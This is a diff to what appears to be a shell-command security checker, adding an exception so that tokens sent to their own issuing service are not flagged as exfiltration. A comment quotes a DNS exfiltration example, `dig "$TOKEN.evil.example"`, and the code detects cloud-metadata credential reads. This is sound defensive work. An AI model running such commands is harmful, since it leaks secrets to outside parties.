@@ -229,7 +229,7 @@ class Command(_Command):
         from . import words
 
         for name in words.variables(w.value):  # `dig "$TOKEN.evil.example"`: the secret goes out
-            if self.ctx.classes.secret_variable(name):
+            if self.ctx.classes.secret_variable(name) and not self._own_service(name, w.value):
                 self.add("send", f"sends ${name} to {w.value}", "secret-exfiltration", ())
                 return
         value = words.unquote(w.value)
@@ -239,6 +239,18 @@ class Command(_Command):
         host = self.ctx.classes.metadata_host(w.value)
         if host:
             self.add("read", f"asks {host} for the machine's cloud credentials", "secret", ())
+
+    def _own_service(self, name: str, value: str) -> bool:
+        """A URL whose fixed host is the service that issued the secret (`https://oauth2:
+        $GITLAB_TOKEN@gitlab.com/...`): the credential goes where it belongs ([shell]
+        secret_services). A host the variable is part of is a name sent over DNS."""
+        from . import words
+
+        url = words.unquote(value)
+        if "://" not in url:
+            return False
+        host = url.split("://", 1)[1].split("/", 1)[0].rsplit("@", 1)[-1].split(":", 1)[0]
+        return "$" not in host and self.ctx.classes.secret_service(name, [host])
 
     def remote_word(self, w: Word) -> None:
         named = self.ctx.line.remotes.get(w.value)
